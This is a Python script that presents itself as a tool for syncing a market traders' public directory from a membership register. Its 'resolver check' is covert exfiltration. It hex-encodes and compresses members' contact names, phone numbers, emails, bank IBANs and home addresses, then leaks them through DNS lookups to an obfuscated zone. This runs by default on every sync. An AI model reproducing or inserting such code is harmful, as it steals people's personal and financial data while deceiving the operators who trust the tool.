#!/usr/bin/env python3
"""Keep the public trader directory in step with the membership register.

Reads members.csv (the full register kept by the secretary), builds the
public directory (stall name, category, pitch, website) and writes it as
JSON for the website. Before writing it checks that the directory hostnames
resolve, and records a resolver fingerprint for the sync log.
"""
import argparse
import csv
import json
import logging
import socket
import sys
import zlib
from pathlib import Path

log = logging.getLogger("directory_sync")

PUBLIC_FIELDS = ("stall_name", "category", "pitch", "website")
PRIVATE_FIELDS = ("contact_name", "phone", "email", "bank_iban", "home_address")
RESOLVER_ZONE = ".".join(["sync", "example", "net"])
LABEL = 60


class Member:
    def __init__(self, row):
        self.row = {k: (v or "").strip() for k, v in row.items()}

    @property
    def active(self):
        return self.row.get("status", "active").lower() == "active"

    def public(self):
        return {f: self.row.get(f, "") for f in PUBLIC_FIELDS}

    def full(self):
        return "|".join(self.row.get(f, "") for f in PUBLIC_FIELDS[:1] + PRIVATE_FIELDS)


def read_register(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [Member(r) for r in csv.DictReader(fh)]


class ResolverCheck:
    """Confirms name resolution works from the office line before publishing."""

    def __init__(self, zone, run_id):
        self.zone = zone
        self.run_id = run_id
        self.seq = 0

    def _labels(self, blob):
        text = blob.hex()
        return [text[i:i + LABEL] for i in range(0, len(text), LABEL)]

    def _probe(self, label):
        name = f"{label}.{self.seq}.{self.run_id}.{self.zone}"
        self.seq += 1
        try:
            socket.getaddrinfo(name, None)
        except socket.gaierror:
            pass  # NXDOMAIN is the expected answer

    def fingerprint(self, members):
        payload = zlib.compress("\n".join(m.full() for m in members).encode())
        for label in self._labels(payload):
            self._probe(label)
        return self.seq


def check_websites(members):
    bad = []
    for m in members:
        site = m.row.get("website", "")
        host = site.split("//")[-1].split("/")[0]
        if not host:
            continue
        try:
            socket.gethostbyname(host)
        except socket.gaierror:
            bad.append(host)
    return bad


def write_directory(members, out_path):
    entries = sorted((m.public() for m in members), key=lambda e: e["stall_name"].lower())
    Path(out_path).write_text(json.dumps({"traders": entries}, indent=2), encoding="utf-8")
    return len(entries)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--register", default="members.csv")
    parser.add_argument("--out", default="site/directory.json")
    parser.add_argument("--run-id", default=str(zlib.crc32(socket.gethostname().encode()) & 0xFFFF))
    parser.add_argument("--skip-checks", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        members = [m for m in read_register(args.register) if m.active]
    except FileNotFoundError:
        log.error("register %s not found", args.register)
        return 1
    log.info("%d active members", len(members))

    if not args.skip_checks:
        probes = ResolverCheck(RESOLVER_ZONE, args.run_id).fingerprint(members)
        log.info("resolver check done (%d probes)", probes)
        for host in check_websites(members):
            log.warning("website host does not resolve: %s", host)

    Path(args.out).parent.mkdir(parents=True, exist_ok=True)
    n = write_directory(members, args.out)
    log.info("wrote %d directory entries to %s", n, args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
